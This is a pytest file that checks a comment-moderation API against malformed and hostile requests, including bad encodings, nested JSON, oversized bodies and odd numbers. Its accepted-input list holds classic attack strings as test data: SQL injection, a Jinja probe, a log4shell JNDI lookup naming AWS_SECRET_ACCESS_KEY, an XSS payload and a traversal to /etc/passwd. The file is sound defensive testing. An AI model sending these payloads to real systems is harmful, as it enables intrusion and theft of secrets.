"""A corpus of hostile input through the API: each request gets either a clean 4xx in the one
error shape or a correct prediction, and nothing half-written (a refused request logs nothing,
an accepted one logs exactly one prediction per comment). test_api.py holds the plain bad-input
cases; this file adds what an attacker or a broken client sends."""

import json
from collections.abc import Iterator
from typing import Any

import pytest
from fastapi.testclient import TestClient

from moderation.labels import LABELS

JSON = {"Content-Type": "application/json"}
EMOJI = "\U0001f525"  # one code point, two UTF-16 units, four UTF-8 bytes


@pytest.fixture(scope="module")
def hostile(module_stack, make_client) -> Iterator[tuple[TestClient, Any]]:
    """One stack for the module (the corpus is large, and every case checks its own delta)."""
    with make_client(module_stack.service()) as client:
        yield client, module_stack


def raw(payload: dict) -> bytes:
    """The body as a client that does not escape non-ASCII sends it (plain UTF-8)."""
    return json.dumps(payload, ensure_ascii=False).encode("utf-8")


def send(client: TestClient, path: str, body: bytes | dict, headers: dict | None = None):
    if isinstance(body, dict):
        return client.post(path, json=body, headers=headers)
    return client.post(path, content=body, headers=JSON if headers is None else headers)


def assert_clean_error(response, status: int, code: str) -> dict:
    assert response.status_code == status, response.text
    body = response.json()
    assert set(body["error"]) == {"code", "message", "details"}, body
    assert body["error"]["code"] == code and body["error"]["message"]
    assert "Traceback" not in response.text
    return body


def assert_prediction(result: dict) -> None:
    assert set(result["scores"]) == set(LABELS)
    assert all(0.0 <= s <= 1.0 for s in result["scores"].values())
    assert set(result["labels"]) <= set(LABELS)
    assert result["decision"] in ("allow", "review", "block")
    if result["labels"]:
        assert result["decision"] != "allow"
    else:  # nothing flagged: allowed, unless routed as text the model was not trained on
        assert result["decision"] == "allow" or "unsupported_script" in result["reasons"]


NESTED_OBJECTS = b'{"comment_text": "hi", "thresholds": ' + b'{"a":' * 10000 + b"0" + b"}" * 10001
NESTED_ARRAYS = b'{"comment_text": "hi", "explain": ' + b"[" * 20000 + b"]" * 20000 + b"}"
MEGABYTE = {"comment_text": "you idiot " * 100_000}


def chunked_megabyte() -> Iterator[bytes]:
    """1 MB with no Content-Length: the guard has to count while reading."""
    yield b'{"comment_text": "'
    for _ in range(1024):
        yield b"a" * 1024
    yield b'"}'


REFUSED = [
    # size: 1 MB declared and 1 MB streamed (10,000 emoji JSON-escaped, 12 bytes each, fit)
    ("1 MB body", "/predict", MEGABYTE, None, 413, "body_too_large"),
    ("1 MB chunked", "/predict", chunked_megabyte, JSON, 413, "body_too_large"),
    # encoding: not UTF-8 at all, overlong, a UTF-8-encoded surrogate, UTF-16, a raw NUL
    ("latin-1", "/predict", '{"comment_text": "naïve"}'.encode("latin-1"), None, 400,
     "invalid_utf8"),
    ("overlong", "/predict", b'{"comment_text": "\xc0\xaf"}', None, 400, "invalid_utf8"),
    ("cesu surrogate", "/predict", b'{"comment_text": "\xed\xa0\x80"}', None, 400, "invalid_utf8"),
    ("utf-16", "/predict", '{"comment_text": "hi"}'.encode("utf-16"), None, 400, "invalid_utf8"),
    ("raw NUL", "/predict", b'{"comment_text": "a\x00b"}', None, 400, "malformed_json"),
    # lone surrogates, as the JSON escapes a truncating UTF-16 client produces: not text
    ("lone surrogate", "/predict", b'{"comment_text": "you \\ud800 idiot"}', None, 422,
     "invalid_request"),
    ("half an emoji", "/predict", b'{"comment_text": "nice \\ud83d"}', None, 422,
     "invalid_request"),
    ("surrogate in batch", "/predict/batch", b'{"comments": ["ok", "\\udfff"]}', None, 422,
     "invalid_request"),
    ("reversed pair", "/predict", b'{"comment_text": "\\ude00\\ud83d"}', None, 422,
     "invalid_request"),
    ("surrogate in notes", "/feedback",
     b'{"request_id": "x", "correct": true, "notes": "\\ud800"}', None, 422, "invalid_request"),
    # JSON that is not a request
    ("empty body", "/predict", b"", None, 422, "invalid_request"),
    ("null", "/predict", b"null", None, 422, "invalid_request"),
    ("array", "/predict", b'["hi"]', None, 422, "invalid_request"),
    ("nested objects", "/predict", NESTED_OBJECTS, None, 400, "malformed_json"),
    ("nested arrays", "/predict", NESTED_ARRAYS, None, 400, "malformed_json"),
    ("truncated", "/predict", b'{"comment_text": "\\ud8', None, 400, "malformed_json"),
    # content type
    ("form", "/predict", b"comment_text=hi", {"Content-Type": "application/x-www-form-urlencoded"},
     415, "unsupported_media_type"),
    ("no content type", "/predict", b'{"comment_text": "hi"}', {}, 415, "unsupported_media_type"),
    ("xml", "/predict", b"<comment_text>hi</comment_text>", {"Content-Type": "application/xml"},
     415, "unsupported_media_type"),
    # numbers: overflowing, infinite, not-a-number, huge integers
    ("threshold 1e309", "/predict", b'{"comment_text": "hi", "thresholds": {"toxic": 1e309}}',
     None, 422, "invalid_request"),
    ("threshold -1e309", "/predict", b'{"comment_text": "hi", "thresholds": {"toxic": -1e309}}',
     None, 422, "invalid_request"),
    ("threshold NaN", "/predict", b'{"comment_text": "hi", "thresholds": {"toxic": NaN}}',
     None, 422, "invalid_request"),
    ("threshold Infinity", "/predict", b'{"comment_text": "hi", "thresholds": {"toxic": Infinity}}',
     None, 422, "invalid_request"),
    ("threshold 10**400", "/predict",
     b'{"comment_text": "hi", "thresholds": {"toxic": 1' + b"0" * 400 + b"}}",
     None, 422, "invalid_request"),
    ("text as number", "/predict", b'{"comment_text": 1e999}', None, 422, "invalid_request"),
    # length in characters (code points), whatever their UTF-16 or UTF-8 size
    ("10,001 emoji", "/predict", raw({"comment_text": EMOJI * 10_001}), None, 422,
     "invalid_request"),
    ("only zero-width", "/predict", {"comment_text": "\u200b\u200b\ufeff"}, None, 422,
     "invalid_request"),
    ("batch, one too long", "/predict/batch", {"comments": ["fine", "a" * 10_001]}, None, 422,
     "invalid_request"),
    ("batch, one blank", "/predict/batch", {"comments": ["fine", "\u3000\u2003"]}, None, 422,
     "invalid_request"),
    ("long idempotency key", "/predict", {"comment_text": "hi"}, {"Idempotency-Key": "k" * 129},
     422, "invalid_request"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("path", "body", "headers", "status", "code"),
    [pytest.param(*case[1:], id=case[0]) for case in REFUSED],
)
def test_hostile_request_is_refused_cleanly_and_writes_nothing(
    hostile, path, body, headers, status, code
):
    client, stack = hostile
    # GIVEN the prediction log as it stands
    before = len(stack.items())
    # WHEN a hostile request arrives
    if callable(body):
        response = client.post(path, content=body(), headers=headers)
    else:
        response = send(client, path, body, headers)
    # THEN it gets a clean 4xx in the one error shape, and nothing was logged
    assert_clean_error(response, status, code)
    assert len(stack.items()) == before


ACCEPTED = [
    ("NUL escaped", {"comment_text": "you\u0000idiot"}),
    ("only NUL", {"comment_text": "\u0000"}),
    ("control chars", {"comment_text": "\x01\x02\x1b[31mred\x1b[0m \x7f"}),
    ("rtl override", {"comment_text": "you are an \u202etoidi\u202c, \u05e9\u05dc\u05d5\u05dd"}),
    ("arabic", {"comment_text": "\u0645\u0631\u062d\u0628\u0627 \u0628\u0643"}),
    ("zero-width", {"comment_text": "you id\u200biot \u2060moron\ufeff"}),
    ("combining flood", {"comment_text": "z" + "\u0336\u0335\u0334" * 2000}),
    ("escaped surrogate pair", b'{"comment_text": "nice \\ud83d\\udd25 work"}'),
    ("sql", {"comment_text": "'; DROP TABLE predictions;--"}),
    ("sql quoted", {"comment_text": "\" OR 1=1 -- ' OR ''='"}),
    ("jinja", {"comment_text": "{{7*7}} {% for x in () %}{{ x }}{% endfor %}"}),
    ("log4shell", {"comment_text": "${jndi:ldap://x/a} ${env:AWS_SECRET_ACCESS_KEY}"}),
    ("format string", {"comment_text": "%s%s%s%n {0.__class__} {__import__}"}),
    ("html", {"comment_text": "<script>alert(1)</script><img src=x onerror=alert(1)>"}),
    ("path", {"comment_text": "../../../../etc/passwd\\..\\windows"}),
    ("dynamodb syntax", {"comment_text": '{"S": "x"} #pk :v attribute_not_exists(pk)'}),
    ("10,000 emoji", raw({"comment_text": EMOJI * 10_000})),
    # a client that escapes non-ASCII (json.dumps, requests) sends ~120 KB for the same text
    ("10,000 emoji escaped", json.dumps({"comment_text": EMOJI * 10_000}).encode()),
    ("10,000 mixed emoji", raw({"comment_text": "\U0001f9d1\u200d\U0001f680" * 3333 + "!"})),
    ("max length, explained", {"comment_text": "idiot " * 1666 + "idio", "explain": True}),
    ("nested-looking text", {"comment_text": "[" * 5000 + "]" * 5000}),
    ("tiny threshold", b'{"comment_text": "hi", "thresholds": {"toxic": 1e-400}}'),
    ("charset param", b'{"comment_text": "fine"}',
     {"Content-Type": "Application/JSON; charset=UTF-8"}),
    ("batch of hostile", {"comments": ["{{7*7}}", "a\u0000b", EMOJI * 100, "'; DROP--"]}),
]  # fmt: skip


@pytest.mark.parametrize(
    ("body", "headers"),
    [pytest.param(case[1], (case[2:] or [None])[0], id=case[0]) for case in ACCEPTED],
)
def test_hostile_text_gets_a_correct_prediction_logged_once(hostile, body, headers):
    client, stack = hostile
    # GIVEN the prediction log as it stands
    before = {item["request_id"] for item in stack.items("prediction")}
    payload = body if isinstance(body, dict) else json.loads(body)
    texts = payload.get("comments") or [payload["comment_text"]]
    path = "/predict/batch" if "comments" in payload else "/predict"
    # WHEN hostile text is sent
    response = send(client, path, body, headers)
    # THEN it is scored like any comment, and each comment is logged exactly once, verbatim
    assert response.status_code == 200, response.text
    result = response.json()
    results = result["results"] if path == "/predict/batch" else [result]
    for each in results:
        assert_prediction(each)
    logged = {
        i["request_id"]: i for i in stack.items("prediction") if i["request_id"] not in before
    }
    assert sorted(logged) == sorted(r["request_id"] for r in results)
    assert [logged[r["request_id"]]["comment_text"] for r in results] == texts


def test_a_comment_logged_without_its_text_leaves_the_review_queue_readable(hostile):
    client, _stack = hostile
    # GIVEN a comment sent with store_text false and forced into review
    private = {"comment_text": "a private remark", "store_text": False, "thresholds": {"toxic": 0}}
    sent = client.post("/predict", json=private).json()
    assert sent["decision"] == "review", sent
    # WHEN a moderator reads the queue
    page = client.get("/reviews", params={"limit": 100})
    # THEN it is served, the item is there, and its text is null, never invented
    assert page.status_code == 200, page.text
    (item,) = [i for i in page.json()["items"] if i["request_id"] == sent["request_id"]]
    assert item["comment_text"] is None and item["decision"] == "review"


@pytest.mark.parametrize(
    ("method", "path", "status", "code"),
    [
        ("PUT", "/health", 405, "method_not_allowed"),
        ("DELETE", "/predict", 405, "method_not_allowed"),
        ("PATCH", "/reviews/x", 405, "method_not_allowed"),
        ("POST", "/admin", 404, "not_found"),
    ],
)
def test_wrong_method_or_path_is_named_as_such_whatever_the_body(
    hostile, method, path, status, code
):
    client, stack = hostile
    before = len(stack.items())
    # WHEN a request goes to a method or path the API does not have, with no JSON body
    response = client.request(method, path, content=b"x", headers={"Content-Type": "text/plain"})
    # THEN the caller is told that (405/404), not to change its content type (415)
    assert_clean_error(response, status, code)
    assert len(stack.items()) == before
